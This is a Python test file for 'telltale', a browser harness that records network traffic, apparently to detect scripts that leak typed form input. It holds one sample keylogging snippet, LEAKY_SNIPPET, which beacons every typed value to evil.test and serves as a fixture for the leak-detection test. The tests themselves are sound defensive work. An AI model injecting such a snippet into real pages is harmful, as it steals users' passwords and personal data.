"""The command line, called through main() with real browsers: results.json, junit.xml and exit statuses."""

from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from harness.cli import ExitStatus, main

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"

# silent: run with no snippet, the demo page sends nothing of its own, as expected.
SCENARIO = """
name: Fill the login form and submit it
silent: true
start: https://shop.test/login.html
secrets:
  email: "{canary:email}"
  password: "{canary:password}"
steps:
  - type: {selector: "#email", text: "{email}", delay: 5}
  - fill: {selector: "#password", value: "{password}"}
  - checkpoint: filled
  - submit: "#login-form"
  - expect: {text: "Welcome back"}
  - leave: close
"""

LEAKY_SNIPPET = """
addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);
"""


def _run(tmp_path: Path, *extra: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    scenario = tmp_path / "login.yaml"
    scenario.write_text(SCENARIO)
    status = main(["run", str(scenario), "--site", str(SITE), "--report", str(tmp_path / "report"), *extra], out, err)
    return status, out.getvalue(), err.getvalue()


def test_run_writes_results_junit_and_per_run_files(tmp_path: Path) -> None:
    status, out, err = _run(tmp_path, "--no-snippet", "--browser", "chromium")
    assert status == ExitStatus.OK, out + err
    report = tmp_path / "report"
    results = json.loads((report / "results.json").read_text())
    (run,) = results["runs"]
    assert {k: run[k] for k in ("scenario", "browser", "status", "findings")} == {
        "scenario": "Fill the login form and submit it", "browser": "chromium", "status": "passed", "findings": [],
    }
    assert run["file"].endswith("login.yaml") and run["requests"] >= 3 and run["bytes"] > 0
    suite = ET.parse(report / "junit.xml").getroot()
    assert suite.get("tests") == "1" and suite.get("failures") == "0"
    run_dir = report / run["dir"]
    timeline = json.loads((run_dir / "timeline.json").read_text())
    assert [s["kind"] for s in timeline["steps"]] == ["type", "fill", "checkpoint", "submit", "expect", "leave"]
    assert [s["form"] for s in timeline["submits"]] == ["#login-form"]
    assert timeline["submits"][0]["t_ms"] > timeline["typed"][1]["t_ms"]
    assert [t["reason"] for t in timeline["typed"]] == ["plain: typed text", "password: type=password"]
    traffic = json.loads((run_dir / "traffic.json").read_text())
    form_post = next(r for r in traffic["requests"] if r["method"] == "POST" and r["url"].endswith("/account.html"))
    # The form's own submission carries the typed values: stored traffic keeps its shape, values fingerprinted.
    assert "⟦fp:" in form_post["body"]["text"]
    assert (run_dir / "checkpoints" / "filled-live.png").stat().st_size > 1000
    assert "1 passed, 0 failed, 0 inconclusive, 0 errors" in out and f"report: {report / 'index.html'}" in out


def test_unload_beacon_from_a_snippet_is_in_the_run_traffic(tmp_path: Path) -> None:
    snippet = tmp_path / "leaky.js"
    snippet.write_text(LEAKY_SNIPPET)
    status, out, err = _run(tmp_path, "--snippet", str(snippet), "--browser", "firefox")
    traffic = json.loads((tmp_path / "report" / "runs" / "login-firefox" / "traffic.json").read_text())
    beacons = [r for r in traffic["requests"] if r["url"] == "https://evil.test/k"]
    assert beacons and all(r["channel"] == "beacon" for r in beacons)
    # Stored traffic keeps its shape but not the typed value: the filled password's beacon is its fingerprint.
    timeline = json.loads((tmp_path / "report" / "runs" / "login-firefox" / "timeline.json").read_text())
    password_mark = timeline["typed"][1]["fingerprint"]
    # (a body the redactor cannot rewrite to its shape is withheld whole: no "text" then)
    assert password_mark.startswith("⟦fp:") and password_mark in [r["body"].get("text") for r in beacons]


WEBKIT_INSTALLED = """
from playwright.sync_api import sync_playwright
from harness.run.browsers import find_browser
from harness.errors import BrowserLaunchError
with sync_playwright() as p:
    try:
        find_browser(p, "webkit")
    except BrowserLaunchError:
        raise SystemExit(1)
"""


def test_missing_browser_exits_3_with_one_line(tmp_path: Path) -> None:
    # In a child process: this process may already run Playwright on its main thread.
    if subprocess.run([sys.executable, "-c", WEBKIT_INSTALLED]).returncode == 0:
        pytest.skip("WebKit is installed here")
    scenario = tmp_path / "login.yaml"
    scenario.write_text(SCENARIO)
    done = subprocess.run(
        [sys.executable, "-m", "harness", "run", str(scenario), "--site", str(SITE), "--no-snippet",
         "--report", str(tmp_path / "report"), "--browser", "webkit"],
        capture_output=True, text=True,
    )
    assert done.returncode == ExitStatus.ENVIRONMENT
    assert done.stderr.splitlines() == [
        "telltale: error: webkit is not installed: install it with `playwright install --with-deps webkit`"
    ]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["run", "missing-dir"], "telltale: error: no such scenario file or folder: missing-dir"),
        (["run", "scenarios", "--snippet", "nope.js"], f"telltale: error: cannot read snippet {Path('nope.js').absolute()}: No such file or directory"),
        (["run", "scenarios", "-j", "0"], "telltale: error: -j must be 1 or more, got 0"),
        (["run", "--browser", "opera"], "telltale: error: argument --browser: invalid choice: 'opera' (choose from "),
    ],
)
def test_bad_options_exit_2_with_one_line(argv: list[str], message: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    assert main(argv, out, err) == ExitStatus.INVALID_INPUT
    (line,) = err.getvalue().splitlines()
    assert line.startswith(message)


def test_python_m_harness_is_the_same_command() -> None:
    done = subprocess.run([sys.executable, "-m", "harness", "run", "missing-dir"], capture_output=True, text=True)
    assert done.returncode == 2 and done.stderr.strip() == "telltale: error: no such scenario file or folder: missing-dir"


def test_parallel_workers_keep_every_run_apart(tmp_path: Path) -> None:
    for name in ("first", "second", "third"):
        (tmp_path / f"{name}.yaml").write_text(SCENARIO.replace("Fill the login form", f"{name} run, fill the login form"))
    out, err = io.StringIO(), io.StringIO()
    status = main(["run", str(tmp_path), "--no-snippet", "--site", str(SITE), "--report", str(tmp_path / "report"),
                   "-j", "2", "--browser", "chromium"], out, err)
    assert status == ExitStatus.OK, out.getvalue() + err.getvalue()
    runs = json.loads((tmp_path / "report" / "results.json").read_text())["runs"]
    assert [r["file"].split("/")[-1] for r in runs] == ["first.yaml", "second.yaml", "third.yaml"]
    # Each run saw only its own traffic: one login page load and one form post each.
    for run in runs:
        traffic = json.loads((tmp_path / "report" / run["dir"] / "traffic.json").read_text())
        posts = [r for r in traffic["requests"] if r["method"] == "POST" and r["url"].endswith("/account.html")]
        assert len(posts) == 1, run["file"]


def test_a_scenario_written_with_paths_needs_a_base_url(tmp_path: Path) -> None:
    scenario = tmp_path / "app.yaml"
    scenario.write_text("name: App login\nstart: /login\nsteps:\n  - leave: close\n")
    out, err = io.StringIO(), io.StringIO()
    assert main(["run", str(scenario), "--report", str(tmp_path / "r")], out, err) == ExitStatus.INVALID_INPUT
    assert err.getvalue() == f"telltale: error: {scenario}:2: /login is a path: give the app's origin with --base-url URL\n"


def test_an_app_that_does_not_answer_is_an_environment_error(tmp_path: Path) -> None:
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    scenario = tmp_path / "app.yaml"
    scenario.write_text("name: App login\nstart: /login\nsteps:\n  - leave: close\n")
    out, err = io.StringIO(), io.StringIO()
    argv = ["run", str(scenario), "--base-url", f"http://127.0.0.1:{port}", "--report", str(tmp_path / "r")]
    assert main(argv, out, err) == ExitStatus.ENVIRONMENT
    (line,) = err.getvalue().splitlines()
    assert line.startswith(f"telltale: error: http://127.0.0.1:{port} is unreachable: ") and f"127.0.0.1:{port}" in line


@pytest.mark.parametrize("command", ["run", "diff", "verify", "init", "approve"])
def test_every_command_helps_with_examples_and_exit_statuses(command: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    assert main([command, "--help"], out, err) == ExitStatus.OK
    text = out.getvalue()
    examples = text.split("examples:\n", 1)[1].split("\n\n", 1)[0]
    assert f"telltale {command}" in examples
    exits = text.split("exit status:\n", 1)[1]
    statuses = [int(line.split()[0]) for line in exits.splitlines() if line.strip()]
    assert statuses[0] == ExitStatus.OK and ExitStatus.INVALID_INPUT in statuses
    assert set(statuses) <= set(ExitStatus)
    if command == "run":
        assert statuses == list(ExitStatus)
    assert err.getvalue() == ""


def test_bare_telltale_prints_usage_and_version_works() -> None:
    out, err = io.StringIO(), io.StringIO()
    assert main([], out, err) == ExitStatus.INVALID_INPUT
    assert out.getvalue().startswith("usage: telltale") and "exit status:" in out.getvalue()
    out = io.StringIO()
    assert main(["--version"], out, err) == ExitStatus.OK
    assert out.getvalue().startswith("telltale ")


def test_a_step_that_times_out_names_its_selector_and_the_page(tmp_path: Path) -> None:
    scenario = tmp_path / "missing.yaml"
    scenario.write_text("name: Click what is not there\nsilent: true\nstart: https://shop.test/login.html?next=x\n"
                        "steps:\n  - click: '#no-such-button'\n")
    out, err = io.StringIO(), io.StringIO()
    status = main(["run", str(scenario), "--no-snippet", "--site", str(SITE), "--report", str(tmp_path / "r"),
                   "--browser", "chromium"], out, err)
    assert status == ExitStatus.CHECK_FAILED
    (run,) = json.loads((tmp_path / "r" / "results.json").read_text())["runs"]
    assert f"{scenario}:5: step 1 'click': timed out waiting for '#no-such-button' on https://shop.test/login.html " \
        in run["error"]
